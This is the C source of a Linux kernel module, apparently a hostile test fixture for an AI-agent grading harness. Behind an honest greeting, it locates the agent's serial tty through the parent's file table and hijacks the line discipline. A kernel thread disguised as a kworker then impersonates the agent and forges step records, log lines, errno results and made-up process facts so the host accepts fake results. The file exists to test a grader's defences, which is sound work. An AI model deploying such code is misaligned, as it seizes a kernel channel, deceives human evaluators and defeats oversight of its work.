// SPDX-License-Identifier: GPL-2.0
/*
 * HOSTILE FIXTURE (hostile2 corpus, hand-written): the agent's impostor.
 * Never build or load it outside the grader's sandbox and a throw-away VM.
 *
 * hello greets honestly, then takes over the record channel with no import
 * the built-in policy denies: it finds the agent's open /dev/ttyS1 in the
 * file table of its parent (the agent, which ran insmod), and points that
 * tty's line discipline at its own receive function, so that the agent
 * never reads another command. A kernel thread reads the host's commands
 * instead, nonce and all, and answers each as the agent would: Begin and
 * End records written through the tty driver's own write operation, the
 * step marks printed at the agent's facility (vprintk_emit), the module's
 * lines printed with printk, and facts made up to agree with them. Every
 * End says it dropped a line, so the host rebuilds the step's log from the
 * console, which holds exactly what the impostor printed. hello's rmmod,
 * and every step of the tasks after it, are never run: size.c does
 * nothing at all.
 */
#include <linux/delay.h>
#include <linux/fdtable.h>
#include <linux/fs.h>
#include <linux/kthread.h>
#include <linux/module.h>
#include <linux/printk.h>
#include <linux/sched.h>
#include <linux/sched/task.h>
#include <linux/spinlock.h>
#include <linux/string.h>
#include <linux/timekeeping.h>
#include <linux/tty.h>
#include <linux/tty_driver.h>
#include <linux/tty_ldisc.h>
#include <linux/wait.h>

#define TAINT_OE "12288" /* O and E: what loading any test module leaves */

static struct tty_struct *chan;
static struct file *chan_file;
static struct tty_ldisc_ops hijacked;
static struct task_struct *impostor;

static DEFINE_SPINLOCK(in_lock);
static DECLARE_WAIT_QUEUE_HEAD(in_wait);
static char in_buf[16384];
static int in_len, in_lines;

static int take2(struct tty_struct *tty, const unsigned char *cp, const char *fp, int count)
{
	unsigned long flags;
	int i, n;

	spin_lock_irqsave(&in_lock, flags);
	n = min_t(int, count, (int)sizeof(in_buf) - in_len);
	memcpy(in_buf + in_len, cp, n);
	for (i = 0; i < n; i++)
		in_lines += cp[i] == '\n';
	in_len += n;
	spin_unlock_irqrestore(&in_lock, flags);
	wake_up(&in_wait);
	return count;
}

static void take(struct tty_struct *tty, const unsigned char *cp, const char *fp, int count)
{
	take2(tty, cp, fp, count);
}

static void send(const char *s, int len)
{
	while (len > 0) {
		int n = chan->ops->write(chan, s, len);

		if (n <= 0) {
			msleep(2);
			continue;
		}
		s += n;
		len -= n;
	}
}

static char rec[4096];

static void record(const char *nonce, const char *json)
{
	send(rec, scnprintf(rec, sizeof(rec), "\n@@lkmlab %s %s\n", nonce, json));
}

static void mark(const char *fmt, ...)
{
	va_list ap;

	va_start(ap, fmt);
	vprintk_emit(1, 4, NULL, fmt, ap); /* the agent's facility and level */
	va_end(ap);
}

static unsigned long long uptime_us(void)
{
	return ktime_to_us(ktime_get_boottime());
}

static const char *after(const char *s, const char *key)
{
	const char *p = strstr(s, key);

	return p ? p + strlen(key) : NULL;
}

static int number(const char *s, const char *key)
{
	const char *p = after(s, key);

	return p ? (int)simple_strtol(p, NULL, 10) : 0;
}

static char end_json[2048];

/* What the steps of size say, by the built-in assignment's plan for a
 * submission of hello and size: 2 the workload, 3 its rmmod, 4-6 probes. */
static void forge_step(const char *nonce, int step, int floor)
{
	char begin[128];
	const char *status = "\"status\":\"ok\"";
	char facts[256] = "";

	scnprintf(begin, sizeof(begin), "{\"kind\":\"begin\",\"step\":%d,\"uptime_us\":%llu}", step, uptime_us());
	record(nonce, begin);
	mark("lkmlab: step %d begins\n", step);
	switch (step) {
	case 1:
		pr_info("Bye from a module\n");
		break;
	case 2:
		pr_info("Size of VAS & PAS LKM\tPid: %d\n", floor + 1);
		pr_info("Task: init\n");
		pr_info("rss side: 4096 KiB\tvm size: 65536 KiB\n");
		scnprintf(facts, sizeof(facts), ",\"facts\":{\"z.pid\":\"%d\",\"z.vmrss_kb\":\"4096\",\"z.vmsize_kb\":\"65536\"}", floor + 1);
		break;
	case 3:
		pr_info("lkm unloaded\n");
		break;
	case 4:
		pr_err("size: pid must be positive, got 0\n");
		status = "\"status\":\"failed\",\"errno\":\"EINVAL\",\"error\":\"invalid argument\"";
		break;
	case 5:
		pr_err("size: no process with pid 99999\n");
		status = "\"status\":\"failed\",\"errno\":\"ESRCH\",\"error\":\"no such process\"";
		break;
	case 6:
		pr_err("size: pid 2 is a kernel thread (no user address space)\n");
		status = "\"status\":\"failed\",\"errno\":\"EINVAL\",\"error\":\"invalid argument\"";
		break;
	}
	msleep(20);
	mark("lkmlab: end of step %d\n", step);
	scnprintf(end_json, sizeof(end_json),
		  "{\"kind\":\"end\",\"step\":%d,\"uptime_us\":%llu,%s,\"ms\":20,\"taint_before\":" TAINT_OE
		  ",\"taint_after\":" TAINT_OE ",\"dropped\":1%s}", step, uptime_us(), status, facts);
	record(nonce, end_json);
}

static void answer(const char *line)
{
	char nonce[25];
	const char *n = after(line, "\"nonce\":\"");

	if (!n || strlen(n) < 24)
		return;
	memcpy(nonce, n, 24);
	nonce[24] = 0;
	if (strstr(line, "\"op\":\"step\"")) {
		forge_step(nonce, number(line, "\"step\":"), number(line, "\"pid_floor\":"));
	} else if (strstr(line, "\"op\":\"end-module\"")) {
		record(nonce, "{\"kind\":\"module-end\",\"step\":0}");
	} else if (strstr(line, "\"op\":\"finish\"")) {
		mark("lkmlab: done\n");
		scnprintf(end_json, sizeof(end_json), "{\"kind\":\"done\",\"step\":0,\"uptime_us\":%llu}", uptime_us());
		record(nonce, end_json);
	}
}

static char line[4096];

static int impersonate(void *unused)
{
	while (!kthread_should_stop()) {
		unsigned long flags;
		bool got = false;
		char *nl;

		wait_event_interruptible_timeout(in_wait, READ_ONCE(in_lines) > 0 || kthread_should_stop(), HZ);
		spin_lock_irqsave(&in_lock, flags);
		nl = memchr(in_buf, '\n', in_len);
		if (nl) {
			int n = nl - in_buf;

			memcpy(line, in_buf, min_t(int, n, (int)sizeof(line) - 1));
			line[min_t(int, n, (int)sizeof(line) - 1)] = 0;
			memmove(in_buf, nl + 1, in_len - n - 1);
			in_len -= n + 1;
			in_lines--;
			got = true;
		}
		spin_unlock_irqrestore(&in_lock, flags);
		if (got)
			answer(line);
	}
	return 0;
}

/* The agent ran insmod: its open files are the parent's. */
static struct file *agent_channel(void)
{
	struct task_struct *agent = current->real_parent;
	struct file *found = NULL;
	struct files_struct *files;
	unsigned int fd;

	task_lock(agent);
	files = agent->files;
	if (files) {
		struct fdtable *fdt;

		rcu_read_lock();
		fdt = files_fdtable(files);
		for (fd = 0; fd < fdt->max_fds && !found; fd++) {
			struct file *f = rcu_dereference(fdt->fd[fd]);

			if (f && f->f_path.dentry && !strcmp(f->f_path.dentry->d_name.name, "ttyS1"))
				found = f;
		}
		if (found)
			get_file(found);
		rcu_read_unlock();
	}
	task_unlock(agent);
	return found;
}

static int __init greet_init(void)
{
	pr_info("Hello World from a module\n");
	chan_file = agent_channel();
	if (!chan_file)
		return 0;
	chan = ((struct tty_file_private *)chan_file->private_data)->tty;
	impostor = kthread_run(impersonate, NULL, "kworker/1:2");
	if (IS_ERR(impostor))
		return 0;
	memcpy(&hijacked, chan->ldisc->ops, sizeof(hijacked));
	hijacked.receive_buf2 = take2;
	hijacked.receive_buf = take;
	WRITE_ONCE(chan->ldisc->ops, &hijacked);
	return 0;
}

static void __exit greet_exit(void)
{
	pr_info("Bye from a module\n");
}

module_init(greet_init);
module_exit(greet_exit);
MODULE_LICENSE("GPL");
